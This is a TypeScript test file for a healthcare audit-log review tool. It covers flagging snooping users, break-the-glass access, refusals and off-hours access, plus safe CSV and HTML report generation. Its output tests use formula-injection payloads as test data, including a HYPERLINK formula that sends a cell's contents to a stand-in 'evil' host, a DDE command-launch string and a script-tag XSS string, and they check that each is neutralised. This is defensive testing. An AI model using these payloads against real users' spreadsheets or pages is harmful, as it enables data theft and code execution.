import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readFile, readdir, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AuditEvent, Bundle } from '@medplum/fhirtypes';
import type { AuditInput } from '../../src/audit/audit-input.js';
import { buildAuditEvents } from '../../src/audit/build.js';
import { reviewReport, runReview } from '../../src/audit/review.js';
import { csvCell, reviewCsvFiles, toCsv } from '../../src/audit/review-csv.js';
import { ReviewTooLargeError } from '../../src/audit/review-load.js';
import { buildReviewModel, summarizeAuditEvent } from '../../src/audit/review-model.js';
import { resolveBound } from '../../src/audit/review-time.js';
import { escapeHtml, renderReviewHtml } from '../../src/audit/report-html.js';
import { openSpool } from '../../src/audit/spool.js';
import { baseInput, deny, interaction, permit, practitioner } from './fixtures.js';

function user(id: string, name: string) {
  const p = practitioner({ practitioner: `Practitioner/${id}` });
  p.claims = { ...p.claims, idNatPs: `8${id}`, displayName: name, subject: `sub-${id}`, jti: undefined };
  return p;
}

function access(at: string, u: ReturnType<typeof user>, patient: string, extra: Partial<AuditInput> = {}): AuditEvent[] {
  return buildAuditEvents(
    baseInput({
      newId: undefined,
      recorded: at,
      principal: u,
      requestId: `r-${Math.random().toString(36).slice(2)}`,
      patients: [patient],
      interaction: interaction('read', { resourceType: 'Observation', id: `o-${patient}` }),
      decision: permit(),
      ...extra,
    }),
  );
}

/**
 * A week of a cardiology ward (times UTC; Paris is UTC+1 in February 2025):
 * six clinicians each seeing their few patients on weekdays, one who browses 40 records, an
 * emergency physician who breaks the glass, refusals, a failed login, night and weekend accesses.
 */
function ward(): AuditEvent[] {
  const evs: AuditEvent[] = [];
  const staff = Array.from({ length: 6 }, (_, i) => user(`9970000010${i}`, `Doctor ${i}`));
  staff.forEach((u, i) => {
    for (let p = 0; p < 4; p++) evs.push(...access(`2025-02-1${1 + (p % 3)}T${String(8 + p).padStart(2, '0')}:15:00Z`, u, `pat-${i}-${p}`));
  });
  const snoop = user('99700000999', 'Nosy PARKER');
  for (let p = 0; p < 40; p++) evs.push(...access(`2025-02-12T13:${String(p).padStart(2, '0')}:00Z`, snoop, `pat-x-${p}`));
  for (let p = 0; p < 5; p++) {
    evs.push(
      ...access(`2025-02-12T14:0${p}:00Z`, snoop, 'pat-vip', {
        decision: deny(),
        httpStatus: 404,
        failure: { code: 'ERR_NOT_FOUND', message: 'Not found' },
      }),
    );
  }
  const er = user('99700000039', 'Sophie ROUX');
  evs.push(
    ...buildAuditEvents(
      baseInput({
        newId: undefined,
        kind: 'break-glass-start',
        recorded: '2025-02-13T02:10:00Z',
        principal: er,
        patients: ['pat-vip'],
        breakGlass: { reason: 'Unconscious, arriving by ambulance', until: '2025-02-13T03:10:00Z' },
        decision: permit({ reason: 'break-glass', rule: 'break-glass', evidence: [] }),
      }),
    ),
    ...access('2025-02-13T02:12:00Z', er, 'pat-vip', {
      decision: permit({
        reason: 'break-glass',
        rule: 'break-glass',
        evidence: [{ source: 'break-glass', reference: undefined, reason: 'Unconscious, arriving by ambulance' }],
        purposeOfUse: 'BTG',
      }),
    }),
  );
  // Night in Paris (23:30 local), and Saturday noon.
  evs.push(...access('2025-02-11T22:30:00Z', staff[0]!, 'pat-0-0'));
  evs.push(...access('2025-02-15T11:00:00Z', staff[1]!, 'pat-1-0'));
  evs.push(
    ...buildAuditEvents(
      baseInput({
        newId: undefined,
        kind: 'login-failure',
        principal: undefined,
        recorded: '2025-02-12T09:00:00Z',
        clientAddress: '10.0.0.66',
        httpStatus: 401,
        patients: ['pat-vip'],
        failure: { code: 'ERR_TOKEN_INVALID', message: 'The access token is invalid.' },
      }),
    ),
  );
  // Outside the period: ignored.
  evs.push(...access('2025-01-05T10:00:00Z', staff[2]!, 'pat-vip'));
  return evs;
}

const period = { from: '2025-02-10', to: '2025-02-16' };

describe('audit.review: computations', () => {
  const model = buildReviewModel(ward(), { ...period, patient: 'pat-vip', now: () => new Date('2025-02-17T08:00:00Z') });

  it('takes whole days in the review time zone', () => {
    expect(model.from).toBe('2025-02-09T23:00:00.000Z');
    expect(model.to).toBe('2025-02-16T22:59:59.999Z');
    expect(resolveBound('2025-03-31', 'end', 'Europe/Paris')).toBe('2025-03-31T21:59:59.999Z');
    expect(resolveBound('2025-03-30T10:00:00+02:00', 'start', 'Europe/Paris')).toBe('2025-03-30T08:00:00.000Z');
    expect(() => resolveBound('yesterday', 'start', 'UTC')).toThrow(TypeError);
  });

  it('lists break-the-glass openings and accesses with their justification', () => {
    expect(model.breakGlass).toHaveLength(2);
    expect(model.breakGlass.map((r) => [r.what, r.user, r.userName, r.patient, r.reason])).toEqual([
      ['opened', '899700000039', 'Sophie ROUX', 'Patient/pat-vip', 'Unconscious, arriving by ambulance'],
      ['access', '899700000039', 'Sophie ROUX', 'Patient/pat-vip', 'Unconscious, arriving by ambulance'],
    ]);
    expect(model.totals.breakGlass).toBe(2);
  });

  it('counts refusals by user (failed identifications by address) and by patient', () => {
    expect(model.refusalsByUser).toEqual([
      { user: '899700000999', userName: 'Nosy PARKER', refusals: 5, patients: 1, last: '2025-02-12T14:04:00Z' },
      { user: 'unidentified @ 10.0.0.66', userName: '', refusals: 1, patients: 1, last: '2025-02-12T09:00:00Z' },
    ]);
    expect(model.refusalsByPatient).toEqual([{ patient: 'Patient/pat-vip', refusals: 6, users: 2, last: '2025-02-12T14:04:00Z' }]);
    expect(model.refusals[0]).toMatchObject({ reason: 'ERR_TOKEN_INVALID', clientAddress: '10.0.0.66' });
    expect(model.refusals[1]).toMatchObject({ reason: 'no-care-relationship', patient: 'Patient/pat-vip' });
  });

  it('finds accesses outside usual hours (night and weekend, local time)', () => {
    const when = model.offHours.map((r) => r.localTime);
    // The break-the-glass opening at 03:10 is listed with break-the-glass, not as an access.
    expect(when).toEqual(['Tue 2025-02-11 23:30', 'Thu 2025-02-13 03:12', 'Sat 2025-02-15 12:00']);
    // 08:15 UTC is 09:15 in Paris: usual hours.
    expect(model.offHours.some((r) => r.localTime.endsWith('09:15'))).toBe(false);
    const noWeekend = buildReviewModel(ward(), { ...period, hours: { weekends: false, offHoursStart: 22, offHoursEnd: 6 } });
    expect(noWeekend.offHours.map((r) => r.localTime)).toEqual(['Tue 2025-02-11 23:30', 'Thu 2025-02-13 03:12']);
  });

  it('flags the user who opened far more distinct patients than the others', () => {
    expect(model.unusualUsers).toEqual([
      expect.objectContaining({ user: '899700000999', userName: 'Nosy PARKER', patients: 40, accesses: 40 }),
    ]);
    expect(model.patientsPerUser[0]!.flagged).toBe(true);
    expect(model.patientsPerUser.slice(1).every((u) => !u.flagged)).toBe(true);
    const strict = buildReviewModel(ward(), { ...period, unusual: { threshold: 3 } });
    expect(strict.unusualUsers.map((u) => u.user)).toContain('899700000999');
    expect(strict.unusualUsers.length).toBeGreaterThan(1);
    const lenient = buildReviewModel(ward(), { ...period, unusual: { minPatients: 50 } });
    expect(lenient.unusualUsers).toEqual([]);
  });

  it('lists every access to a patient, granted and refused, for answering that patient', () => {
    const rows = model.patient!.accesses;
    expect(model.patient!.patient).toBe('Patient/pat-vip');
    expect(rows.map((r) => [r.user, r.outcome])).toEqual([
      ['unidentified @ 10.0.0.66', '4'],
      ...Array.from({ length: 5 }, () => ['899700000999', '4']),
      ['899700000039', '0'],
      ['899700000039', '0'],
    ]);
    // January's access is outside the period.
    expect(rows.some((r) => r.recorded.startsWith('2025-01'))).toBe(false);
  });

  it('keeps totals and per-day counts', () => {
    expect(model.totals).toMatchObject({ refusals: 6, breakGlass: 2, failures: 0 });
    expect(model.daily.find((d) => d.day === '2025-02-12')).toMatchObject({ refusals: 6 });
    expect(model.daily.map((d) => d.day)).toEqual([...model.daily.map((d) => d.day)].sort());
  });

  it('summarizes a raw AuditEvent back into its reviewable fields', () => {
    const [ev] = access('2025-02-12T10:00:00Z', user('99700000013', 'Claire MARTIN'), 'pat-1');
    expect(summarizeAuditEvent(ev!)).toMatchObject({
      kind: 'access',
      subtype: 'read',
      outcome: '0',
      user: '899700000013',
      userName: 'Claire MARTIN',
      professions: ['10'],
      policyRoles: ['clinician'],
      patients: ['Patient/pat-1'],
      resources: ['Observation/o-pat-1'],
      clientAddress: '10.0.0.5',
      clientId: 'dpi-web',
      purpose: ['TREAT'],
      breakGlass: false,
      decisionReason: 'care-relationship',
    });
  });
});

describe('audit.review: CSV and HTML output', () => {
  it('quotes CSV per RFC 4180 and neutralises formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe(`"'=HYPERLINK(""http://evil"",""x"")"`);
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell(42)).toBe('42');
    expect(toCsv(['a', 'b'], [['x', 1]])).toBe('\uFEFFa,b\r\nx,1\r\n');
  });

  it('escapes hostile names and justifications in the CSV files and the page', () => {
    const evil = user('99700000666', '=HYPERLINK("http://evil/?"&A1,"click")');
    const evs = buildAuditEvents(
      baseInput({
        newId: undefined,
        kind: 'break-glass-start',
        recorded: '2025-02-12T10:00:00Z',
        principal: evil,
        patients: ['pat-1'],
        breakGlass: { reason: '<script>alert(1)</script>, "urgent"\n@SUM(1)' },
      }),
    );
    const model = buildReviewModel(evs, period);
    const csv = reviewCsvFiles(model)['break-glass.csv']!;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""click"")"`);
    expect(csv).toContain('"<script>alert(1)</script>, ""urgent""\n@SUM(1)"');
    const html = renderReviewHtml(model);
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;, &quot;urgent&quot;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil/?&quot;&amp;A1,&quot;click&quot;)');
    expect(escapeHtml(`<a href='x'>&`)).toBe('&lt;a href=&#39;x&#39;&gt;&amp;');
  });

  it('renders a self-contained page: charts, sortable tables, no external resource, nonce when asked', () => {
    const model = buildReviewModel(ward(), { ...period, patient: 'pat-vip' });
    const html = renderReviewHtml(model, { nonce: 'abc123' });
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).toContain('<svg class="chart"');
    expect(html).toContain('<table class="sortable">');
    expect(html).toContain('<style nonce="abc123">');
    expect(html).toContain('<script nonce="abc123">');
    expect(html).toContain('Every access to Patient/pat-vip');
    expect(html).not.toMatch(/\s(src|href)=/i);
    expect(html).not.toMatch(/@import|url\(/i);
    expect(html).not.toMatch(/\sstyle=/i);
    expect(html.match(/<script/g)).toHaveLength(1);
  });

  it('caps table rows in the page and says the CSV has them all', () => {
    const model = buildReviewModel(ward(), period);
    const html = renderReviewHtml(model, { maxRows: 2 });
    expect(html).toContain(`2 of ${model.patientsPerUser.length} rows shown`);
  });
});

describe('audit.review: runReview', () => {
  let dir: string;
  let fhir: Server | undefined;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'caregate-review-'));
  });
  afterEach(async () => {
    if (fhir) await new Promise<void>((r) => fhir!.close(() => r()));
    fhir = undefined;
    await rm(dir, { recursive: true, force: true });
  });

  it('reads the spool and writes report.html and the CSV files, owner-only', async () => {
    const spool = await openSpool({ dir: join(dir, 'spool') });
    await spool.append(ward());
    await spool.close();
    const out = join(dir, 'out');
    const { model, files } = await runReview({ ...period, source: { spoolDir: join(dir, 'spool') }, outDir: out, patient: 'Patient/pat-vip' });
    expect(model.unusualUsers).toHaveLength(1);
    expect((await readdir(out)).sort()).toEqual(
      [
        'break-glass-items.csv',
        'break-glass.csv',
        'off-hours.csv',
        'patient-pat-vip.csv',
        'patients-per-user.csv',
        'refusals-by-patient.csv',
        'refusals-by-user.csv',
        'refusals.csv',
        'report.html',
      ].sort(),
    );
    expect(files).toHaveLength(9);
    expect((await stat(join(out, 'report.html'))).mode & 0o077).toBe(0);
    const patientCsv = await readFile(join(out, 'patient-pat-vip.csv'), 'utf8');
    expect(patientCsv.split('\r\n').filter(Boolean)).toHaveLength(1 + 8);
  });

  it('renders in memory for the admin view, with the CSP nonce, and refuses an inverted period', async () => {
    const spool = await openSpool({ dir: join(dir, 'spool') });
    await spool.append(ward());
    await spool.close();
    const source = { spoolDir: join(dir, 'spool') };
    const r = await reviewReport({ ...period, source }, { nonce: 'n0nce' });
    expect(r.html).toContain('<script nonce="n0nce">');
    expect(Object.keys(r.csv)).toContain('refusals-by-user.csv');
    expect(r.model.totals.refusals).toBe(6);
    await expect(reviewReport({ from: '2025-02-16', to: '2025-02-10', source })).rejects.toThrow(/after/);
  });

  it('reads every page of AuditEvent?date=ge..&date=le.. from a FHIR server', async () => {
    const evs = ward();
    const seen: string[] = [];
    fhir = createServer((req, res) => {
      seen.push(req.url ?? '');
      const url = new URL(req.url ?? '/', 'http://x');
      const page = Number(url.searchParams.get('page') ?? '0');
      const size = 30;
      const slice = evs.slice(page * size, (page + 1) * size);
      const bundle: Bundle = {
        resourceType: 'Bundle',
        type: 'searchset',
        entry: slice.map((resource) => ({ resource, search: { mode: 'match' } })),
        link: (page + 1) * size < evs.length ? [{ relation: 'next', url: `${base}/AuditEvent?page=${page + 1}` }] : [],
      };
      res.writeHead(200, { 'content-type': 'application/fhir+json' }).end(JSON.stringify(bundle));
    });
    await new Promise<void>((r) => fhir!.listen(0, '127.0.0.1', r));
    const base = `http://127.0.0.1:${(fhir.address() as AddressInfo).port}/fhir`;
    const { model } = await runReview({ ...period, source: { baseUrl: base, headers: { authorization: 'Bearer x' } }, outDir: join(dir, 'out') });
    // The period, and the break-the-glass verdicts given since its start (they may come after it).
    // Two searches, each followed over every page.
    expect(seen).toContain('/fhir/AuditEvent?date=ge2025-02-09T23%3A00%3A00.000Z&date=le2025-02-16T22%3A59%3A59.999Z&_count=500');
    expect(seen).toHaveLength(2 * Math.ceil(evs.length / 30));
    expect(seen.find((u) => u.includes('subtype='))).toBe(
      '/fhir/AuditEvent?subtype=https%3A%2F%2Fcaregate.example%2Ffhir%2FCodeSystem%2Faudit-event%7Cbreak-glass-verdict&date=ge2025-02-09T23%3A00%3A00.000Z&_count=500',
    );
    expect(model.totals.events).toBe(evs.length - 1);
    // A trail longer than maxPages is refused, not loaded.
    await expect(
      reviewReport({ ...period, source: { baseUrl: base, maxPages: 1 } }),
    ).rejects.toBeInstanceOf(ReviewTooLargeError);
  });

  it('refuses to follow a next link to another origin', async () => {
    fhir = createServer((_req, res) => {
      res
        .writeHead(200, { 'content-type': 'application/fhir+json' })
        .end(JSON.stringify({ resourceType: 'Bundle', type: 'searchset', link: [{ relation: 'next', url: 'http://elsewhere.example/fhir/AuditEvent?p=2' }] }));
    });
    await new Promise<void>((r) => fhir!.listen(0, '127.0.0.1', r));
    const base = `http://127.0.0.1:${(fhir.address() as AddressInfo).port}/fhir`;
    await expect(runReview({ ...period, source: { baseUrl: base }, outDir: join(dir, 'out') })).rejects.toThrow(/another origin/);
  });
});
